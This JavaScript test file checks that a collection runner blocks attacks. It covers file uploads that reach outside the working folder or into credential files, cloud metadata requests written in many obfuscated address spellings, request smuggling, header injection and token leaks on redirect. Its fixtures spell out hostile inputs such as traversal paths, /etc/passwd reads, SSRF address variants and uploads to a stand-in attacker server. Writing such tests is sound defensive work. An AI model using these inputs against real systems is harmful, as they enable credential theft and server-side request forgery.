// SPDX-License-Identifier: Apache-2.0
// The gauntlet, threats 41, 42 and 35: what a collection can reach. Files of the person, metadata
// servers in every spelling, and other origins that a header is carried to.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { DOMAIN, echo, gauntlet, header, item, ORDERS } from './gauntlet.mjs';

const g = await gauntlet({ after });
const post = (body, url = `${g.attacker.url}/upload`) => ({ method: 'POST', url, body });

// ---- 41 -----------------------------------------------------------------------------------------

const SECRET = 'the-secret-of-the-person';
const pem = generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' });
const adc = JSON.stringify({ type: 'authorized_user', client_id: 'c', client_secret: SECRET, refresh_token: `1//${SECRET}` });
const outside = join(g.home, 'outside');
await mkdir(join(outside, 'deep'), { recursive: true });
await writeFile(join(outside, 'diary.txt'), SECRET);
await writeFile(join(outside, 'deep/diary.txt'), SECRET);

// Made in the folder of the attack, before it runs.
async function stock(dir) {
  await symlink(join(outside, 'diary.txt'), join(dir, 'link.txt'));
  await symlink(outside, join(dir, 'folder'));
  await symlink('/proc/self/environ', join(dir, 'environ'));
  execFileSync('mkfifo', [join(dir, 'pipe')]);
}

const wanted = [
  // what it asks for, how it is refused
  ['../outside/diary.txt', /outside the working directory/],
  ['sub/../../outside/diary.txt', /outside the working directory/],
  ['./././../outside/diary.txt', /outside the working directory/],
  [join(outside, 'diary.txt'), /outside the working directory/],
  ['/etc/passwd', /outside the working directory/],
  ['/proc/self/environ', /outside the working directory/],
  ['/dev/zero', /outside the working directory/],
  ['file:///etc/passwd', /no such file|outside the working directory/],
  ['link.txt', /symbolic link/],
  ['folder/diary.txt', /symbolic link/],
  ['folder/deep/diary.txt', /symbolic link/],
  ['environ', /symbolic link/],
  ['pipe', /no regular file/],
  ['.', /is not a file|outside the working directory|invalid/],
  ['key.pem', /holds a credential/],
  ['.ssh/id_ed25519', /holds a credential/],
  ['adc.json', /holds a credential/],
  ['innocent.txt', /holds a credential/],
  ['application_default_credentials.json', /holds a credential/],
  ['credentials.db', /holds a credential/],
  ['key.json', /holds a credential/],
  ['key.p12', /holds a credential/],
  ['.netrc', /holds a credential/],
];
const files = {
  'key.pem': pem, '.ssh/id_ed25519': pem, 'adc.json': adc, 'innocent.txt': `${' '.repeat(9000)}${adc}`,
  'application_default_credentials.json': SECRET, 'credentials.db': SECRET, 'key.p12': SECRET, '.netrc': SECRET,
  'key.json': JSON.stringify({ type: 'service_account', private_key: pem }), 'fine.txt': 'fine',
};
const bodies = {
  file: (src) => ({ mode: 'file', file: { src } }),
  formdata: (src) => ({ mode: 'formdata', formdata: [{ key: 'f', type: 'file', src }] }),
  formdata_list: (src) => ({ mode: 'formdata', formdata: [{ key: 'f', type: 'file', src: ['fine.txt', src] }] }),
};

function assertNothingTaken(r) {
  const got = g.attacker.seen.join('\n') + r.stdout + r.stderr + JSON.stringify(r.report);
  for (const secret of [SECRET, pem.split('\n')[1], 'root:x:', 'HOME=']) assert.ok(!got.includes(secret), secret);
}

for (const [mode, body] of Object.entries(bodies)) {
  test(`T41_no_file_of_the_person_leaves_in_a_body_of_mode_${mode}`, async () => {
    g.attacker.seen.length = 0;
    const r = await g.attack([...wanted.map(([src]) => item(src, post(body(src)))), item('fine', post(body('fine.txt')))],
      { files, stock });
    for (const [src, says] of wanted) {
      const told = `${r.error(src).message} ${r.stdout.split(`→ ${src}\n`)[1]?.split('\n→ ')[0]}`;
      assert.match(told, says, src);
    }
    assert.match(g.attacker.seen.at(-1), /fine/); // what the working folder has may go
    assertNothingTaken(r);
  });
}

test('T41_a_working_folder_is_not_widened_by_the_collection', async () => {
  g.attacker.seen.length = 0;
  const r = await g.attack([item('up', post(bodies.file('../outside/diary.txt'))),
    item('variable', post(bodies.file('{{path}}')), { pre: "pm.variables.set('path', '../outside/diary.txt')" }),
    item('rewritten', post({ mode: 'raw', raw: 'x' }), { pre: "pm.request.body.update({mode: 'file', file: {src: '../outside/diary.txt'}})" }),
    item('script', `${g.attacker.url}/`, { test: `pm.sendRequest({url: '${g.attacker.url}/s', method: 'POST', body: {mode: 'file', file: {src: 'fine.txt'}}}, () => {})` })],
  { files, stock, args: ['--working-dir', '.'] });
  assertNothingTaken(r);
  assert.doesNotMatch(g.attacker.seen.join('\n'), /\n\nfine/, 'a script sends no file at all');
  for (const name of ['up', 'variable', 'rewritten']) {
    assert.match(r.stdout.split(`→ ${name}\n`)[1], /may not read '\.\.\/outside\/diary\.txt'.*outside the working directory/);
  }
});

test('T41_credentials_stay_also_where_the_person_allows_a_folder', async () => {
  await writeFile(join(outside, 'application_default_credentials.json'), adc);
  g.attacker.seen.length = 0;
  const r = await g.attack([item('adc', post(bodies.file(join(outside, 'application_default_credentials.json')))),
    item('climb', post(bodies.file(join(outside, '../outside/../tester@' + DOMAIN + '.json')))),
    item('allowed', post(bodies.file(join(outside, 'deep/diary.txt'))))], { args: ['--allow-files', outside] });
  assert.ok(g.attacker.seen.at(-1).endsWith(SECRET), 'what was allowed is sent');
  assert.match(r.stdout.split('→ adc\n')[1], /holds a credential/);
  assert.match(r.stdout.split('→ climb\n')[1], /outside the working directory/);
  assert.ok(!g.attacker.seen.join('').includes('refresh_token'));
});

test('T41_data_that_is_no_data_is_not_quoted', async () => {
  for (const [args, id] of [[['-d', join(g.home, `tester@${DOMAIN}.json`)], /GP-PM-07/], [['-e', '../outside/diary.txt'], /GP-PM-02|GP-DATA-01/],
    [['-g', `${join(g.home, `tester@${DOMAIN}.json`)}`], /GP-PM-02/]]) {
    const r = await g.attack([], { args, goesOn: false, minted: false });
    assert.match(r.stderr, id);
    assert.ok(!(r.stdout + r.stderr).includes(SECRET), args.join(' '));
    assert.ok(!(r.stdout + r.stderr).includes('PRIVATE KEY'));
  }
});

// ---- 42 -----------------------------------------------------------------------------------------

const path = '/computeMetadata/v1/instance/service-accounts/default/identity?audience=a';
const flavor = header({ 'Metadata-Flavor': 'Google' });
const metadataHosts = [
  '169.254.169.254', '2852039166', '0xa9fea9fe', '0xA9.0xFE.0xA9.0xFE', '0251.0376.0251.0376', '169.254.43518',
  '169.16689662', '[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]', '[0:0:0:0:0:ffff:a9fe:a9fe]', '[64:ff9b::a9fe:a9fe]',
  '[2002:a9fe:a9fe::1]', '[fe80::1]', '[fe80::1%25lo]', '[fd00:ec2::254]', '169.254.170.2', '169.254.169.254.', '%31%36%39.254.169.254',
  '\uff11\uff16\uff19.254.169.254', 'metadata.google.internal', 'METADATA.google.internal.', 'metadata', 'metadata.goog',
  '100.100.100.200', '255.255.255.255', '224.0.0.1',
];

test('T42_no_spelling_of_a_metadata_address_is_reached', async () => {
  const r = await g.attack(metadataHosts.map((host) => item(host, `http://${host}${path}`)));
  for (const host of metadataHosts) {
    assert.match(r.error(host).id ?? '', /^GP-(FET-08|PM-04)$/, `${host}: ${r.error(host).message}`);
  }
});

test('T42_no_redirect_and_no_script_leads_there', async () => {
  const targets = ['http://169.254.169.254/', 'http://[::ffff:169.254.169.254]/', 'http://2852039166/',
    '//metadata.google.internal/', 'http://metadata/'];
  const r = await g.attack([
    ...targets.map((to) => item(to, `${g.attacker.url}/to/307/${encodeURIComponent(to)}`)),
    item('variable', '{{scheme}}//{{a}}.{{b}}/', { pre: "pm.variables.set('scheme', 'http:'); pm.variables.set('a', '169.254'); pm.variables.set('b', '169.254')" }),
    item('script', `${g.attacker.url}/`, { test: targets.slice(0, 3).map((to) => `pm.sendRequest('${to}', (e) => console.log('told', e.code));`).join('\n') }),
  ]);
  for (const name of [...targets, 'variable']) assert.equal(r.error(name).id, 'GP-FET-08', name);
  assert.equal(r.stdout.match(/'told', 'EACCES'/g).length, 3);
});

test('T42_no_proxy_is_asked_to_go_there', async () => {
  g.attacker.seen.length = 0;
  const hosts = metadataHosts.filter((host) => !/^(255|224)/.test(host));
  const r = await g.attack(hosts.map((host) => item(host, `http://${host}${path}`)),
    { env: { http_proxy: g.attacker.url, no_proxy: '127.0.0.1' } });
  assert.deepEqual(g.attacker.seen, []);
  for (const host of hosts) assert.ok(r.error(host).id, host);
});

test('T42_the_metadata_server_of_up_mints_nothing_for_a_collection', async () => {
  const other = new URL(g.up.metadata).port;
  const ways = [
    { url: `${g.up.metadata}${path}`, header: flavor },
    { url: `http://localhost:${other}${path}`, header: header({ 'METADATA-flavor': 'Google' }) },
    { url: `http://0.0.0.0:${other}${path}`, header: header({ 'X-Google-Metadata-Request': 'True' }) },
    { url: `http://[::ffff:127.0.0.1]:${other}${path}`, header: flavor },
    { url: `${g.attacker.url}/to/307/${encodeURIComponent(g.up.metadata + path)}`, header: flavor },
    { url: `http://${g.cloud.GCE_METADATA_HOST}${path}`, header: flavor },
  ].map((request, i) => item(`way ${i}`, request));
  const plain = item('plain', `${g.up.metadata}${path}`);
  const smuggled = item('smuggled', { method: 'POST', url: `${g.up.metadata}/`,
    header: header({ 'Content-Length': '0', A: 'b' }),
    body: { mode: 'raw', raw: `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nMetadata-Flavor: Google\r\n\r\n` } });
  const injected = item('injected', { url: `${g.up.metadata}${path}`, header: header({ A: 'b\r\nMetadata-Flavor: Google' }) });
  const script = item('script', `${g.attacker.url}/`, {
    test: `pm.sendRequest({url: '${g.up.metadata}${path}', header: {'Metadata-Flavor': 'Google'}}, (e, r) => console.log('told', e && e.code, r && r.text()))` });
  const rewritten = item('rewritten', `${g.up.metadata}${path}`, { pre: "pm.request.headers.add({key: 'metadata-flavor', value: 'Google'})" });
  const r = await g.attack([...ways, rewritten, plain, smuggled, plain, injected, script]);
  for (const { name } of [...ways, rewritten]) {
    assert.equal(r.error(name).id, 'GP-FET-08', name);
    assert.match(r.error(name).message, /asks a metadata server/);
  }
  assert.equal(r.of('plain').response.code, 403);
  assert.match(r.error('injected').message, /line break/);
  assert.match(r.stdout, /'told', 'EACCES', ''/);
});

// ---- 35: what one origin was given reaches no other -----------------------------------------------

test('T35_a_redirect_takes_no_token_and_no_authorization_elsewhere', async (t) => {
  const other = await echo(t); // another port is another origin
  const statuses = [301, 302, 303, 307, 308];
  const to = encodeURIComponent(`${other.url}/plain`);
  const viaLocalhost = encodeURIComponent(`http://localhost:${g.trusted.port}/plain`);
  const r = await g.attack([
    ...statuses.map((s) => item(`minted ${s}`, `${g.trusted.url}/to/${s}/${to}`)),
    item('own', { url: `${g.trusted.url}/to/302/${viaLocalhost}`, header: header({ Authorization: 'Basic dTpw' }) }),
    item('chain', `${g.trusted.url}/to/302/${encodeURIComponent(`${g.trusted.url}/to/302/${to}`)}`),
  ], { cloud: true });
  for (const s of statuses) assert.equal(r.of(`minted ${s}`).response.code, 200);
  assert.equal(other.seen.length, statuses.length + 1);
  assert.doesNotMatch(other.seen.join('\n'), /authorization|bearer/i);
  const local = await g.attack(statuses.map((s) => item(`local ${s}`, `${g.attacker.url}/to/${s}/${encodeURIComponent(`${ORDERS}/orders`)}`)));
  assert.doesNotMatch(g.attacker.seen.join('\n'), /authorization/i);
  assert.ok(local.rows.length > 5);
});
